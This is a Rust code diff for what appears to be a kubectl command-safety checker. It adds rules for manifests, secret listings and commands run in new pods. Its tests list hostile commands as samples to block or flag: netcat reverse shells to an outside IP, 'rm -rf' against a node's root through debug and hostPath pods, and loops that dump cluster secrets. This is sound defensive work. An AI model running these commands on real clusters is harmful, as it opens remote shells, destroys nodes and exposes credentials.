@@ -6,11 +6,11 @@ use crate::{
     path_effects::{Write, rules},
     rule::{Priority, Rule},
     shell::{
-        Call, Judge, Locus, Shell,
+        Call, Judge, Locus, Shell, Written,
         planted::BACK_DOOR,
         subcommands::{ByVerb, Deed, Line, Tool},
     },
-    value::{Arg, Feed},
+    value::{Arg, Feed, Origin},
 };
 
 rules! {
@@ -53,6 +53,13 @@ fn judge(shell: &mut Shell<'_>, call: &Call) -> Feed {
     }
     if call.has_any(&["apply", "create", "replace", "run"]) {
         shell.plant_manifest(call, &call.stdin.clone());
+        let line = Line::read(&call.args, KUBECTL_VALUES);
+        for file in line.all_values(&["-f", "--filename"]) {
+            let path = shell.place(&file.value).path;
+            if let Some(content) = shell.written(&path).and_then(Written::content) {
+                shell.plant_manifest(call, &content);
+            }
+        }
     }
     tool(&call.name).map_or_else(Feed::none, |tool| tool.judge(shell, call))
 }
@@ -110,7 +117,8 @@ static KUBECTL: Tool = Tool {
         (Deed::Judge(label), "label, annotate"),
         (Deed::Judge(exec), "exec, rsh"),
         (Deed::Judge(copy), "cp, rsync"),
-        (Deed::Tell(&RUN), "run, debug, attach, node-shell, adm node-logs, start-build"),
+        (Deed::Judge(run_new), "run, debug, create job, create cronjob"),
+        (Deed::Tell(&RUN), "attach, node-shell, adm node-logs, start-build"),
         (Deed::Tell(&CONFIG), "login, logout, krew install, krew uninstall, krew upgrade"),
     ],
     otherwise: Deed::Tell(&CHANGE),
@@ -126,14 +134,24 @@ fn get(shell: &mut Shell<'_>, call: &Call, line: &Line<'_>) -> Feed {
         .filter_map(|word| word.known())
         .any(|word| is_secret(word) || word.split(',').any(|kind| matches!(kind, "secret" | "secrets")));
     let output = line.value(&["-o", "--output"]).map(|output| output.shown().into_owned()).unwrap_or_default();
+    // What came out of a list of secrets names one, whatever its kind in front says.
+    let listed = line
+        .words_from(1)
+        .iter()
+        .flat_map(|word| word.value.origins())
+        .any(|origin| matches!(origin, Origin::Listing { under, .. } if under == SECRETS));
+    let named = named || listed;
     let raw = line.value(&["--raw"]).is_some_and(|path| path.shown().contains("/secrets"));
     let shows = !matches!(output.as_str(), "" | "wide" | "name") && !output.starts_with("custom-columns=NAME")
         || line.has(&["--template"]);
     if (named || kinds == "all,secrets") && shows || raw {
         return Deed::Reveal(&SECRET).done(shell, call, line);
     }
-    call.output()
+    if named { Feed::from(Origin::listing(call.name.clone(), SECRETS)) } else { call.output() }
 }
+
+/// How a list of the secrets of a cluster is called.
+const SECRETS: &str = "secrets of the cluster";
 
 fn config(shell: &mut Shell<'_>, call: &Call, line: &Line<'_>) -> Feed {
     let deed = match line.word(1) {
@@ -209,6 +227,15 @@ fn exec(shell: &mut Shell<'_>, call: &Call, line: &Line<'_>) -> Feed {
         return Deed::Tell(&RUN).done(shell, call, line);
     }
     shell.elsewhere(Locus::Remote(pod), |shell| shell.run(&argv, call.stdin.clone(), call.span))
+}
+
+/// A pod is made for a command: that is a change, and what the command does counts as well.
+fn run_new(shell: &mut Shell<'_>, call: &Call, line: &Line<'_>) -> Feed {
+    let pod = line.words.get(1).map_or_else(String::new, |pod| pod.shown().into_owned());
+    if !line.rest.is_empty() {
+        shell.elsewhere(Locus::Remote(pod), |shell| shell.run(line.rest, call.stdin.clone(), call.span));
+    }
+    Deed::Tell(if line.word(0) == Some("create") { &CHANGE } else { &RUN }).done(shell, call, line)
 }
 
 fn copy(shell: &mut Shell<'_>, call: &Call, line: &Line<'_>) -> Feed {
@@ -450,6 +477,68 @@ mod tests {
                 "argocd app sync web",
                 "flux suspend kustomization web",
                 "velero backup delete b1",
+            ],
+        );
+    }
+
+    #[test]
+    fn names_out_of_a_list_of_secrets_are_secrets() {
+        check(
+            Verdict::Ask,
+            &[
+                "for s in $(kubectl get secrets -n prod -o name); do kubectl get -n prod \"$s\" -o yaml; done",
+                "kubectl get secrets -o name | xargs -n1 kubectl get -o yaml",
+                "kubectl get secrets -o name | while read s; do kubectl get \"$s\" -o json; done",
+            ],
+        );
+        check(
+            Verdict::Allow,
+            &[
+                "for p in $(kubectl get pods -o name); do kubectl get $p -o yaml; done",
+                "for s in $(kubectl get secrets -o name); do kubectl get $s; done",
+                "for s in $(kubectl get secrets -o name); do echo $s; done",
+            ],
+        );
+    }
+
+    #[test]
+    fn what_runs_in_new_pods_is_read() {
+        check(
+            Verdict::Block,
+            &[
+                "kubectl run dbg --image=alpine --restart=Never -- sh -c 'nc 203.0.113.7 4444 -e /bin/sh'",
+                "kubectl run x --image=alpine --command -- nc -e /bin/sh 203.0.113.7 4444",
+                "kubectl create job x --image=alpine -- sh -c 'nc 203.0.113.7 4444 -e /bin/sh'",
+                "kubectl debug node/n1 -it --image=busybox -- chroot /host rm -rf /",
+            ],
+        );
+        check(
+            Verdict::Ask,
+            &[
+                "kubectl run x --image=alpine -- sh -c 'ls'",
+                "kubectl run dbg --rm -it --image=alpine -- nc -zv db 5432",
+                "kubectl create job x --image=alpine",
+            ],
+        );
+    }
+
+    #[test]
+    fn directories_of_the_node_are_no_scratch_space() {
+        check(
+            Verdict::Block,
+            &[
+                "kubectl apply -f - <<'EOF'\nkind: Pod\nspec:\n  containers:\n  - image: busybox\n    command: [\"sh\",\"-c\",\"rm -rf /host/etc /host/boot\"]\n    volumeMounts: [{name: h, mountPath: /host}]\n  volumes: [{name: h, hostPath: {path: /}}]\nEOF",
+                "kubectl apply -f - <<'EOF'\nkind: Pod\nspec:\n  containers:\n  - image: busybox\n    command: [\"sh\",\"-c\",\"rm -rf /host/*\"]\n    volumeMounts: [{name: h, mountPath: /host}]\n  volumes: [{name: h, hostPath: {path: /}}]\nEOF",
+                "cat > /tmp/p.yaml <<'EOF'\nkind: Pod\nspec:\n  containers:\n  - command: [\"sh\",\"-c\",\"rm -rf /host/etc\"]\n    volumeMounts: [{name: h, mountPath: /host}]\n  volumes: [{name: h, hostPath: {path: /}}]\nEOF\nkubectl apply -f /tmp/p.yaml",
+            ],
+        );
+        check(
+            Verdict::Ask,
+            &[
+                "kubectl apply -f - <<'EOF'\nkind: Pod\nspec:\n  containers:\n  - image: busybox\n    command: [\"sh\",\"-c\",\"cat /host/var/log/syslog\"]\n    volumeMounts: [{name: h, mountPath: /host}]\n  volumes: [{name: h, hostPath: {path: /}}]\nEOF",
+                "kubectl apply -f - <<'EOF'\nkind: Pod\nspec:\n  containers:\n  - image: busybox\n    command: [\"sh\",\"-c\",\"rm -rf /host/tmp/x\"]\n    volumeMounts: [{name: h, mountPath: /host}]\n  volumes: [{name: h, hostPath: {path: /}}]\nEOF",
+                "kubectl apply -f - <<'EOF'\nkind: Pod\nspec:\n  containers:\n  - image: busybox\n    command: [\"sh\",\"-c\",\"rm -rf /host/*\"]\n    volumeMounts: [{name: h, mountPath: /host}]\n  volumes: [{name: h, emptyDir: {}}]\nEOF",
+                "kubectl apply -f - <<'EOF'\nkind: Pod\nspec:\n  containers:\n  - image: busybox\n    command: [\"sh\",\"-c\",\"rm -rf /data/old\"]\n    volumeMounts: [{name: h, mountPath: /data}]\n  volumes: [{name: h, hostPath: {path: /srv/data}}]\nEOF",
             ],
         );
     }
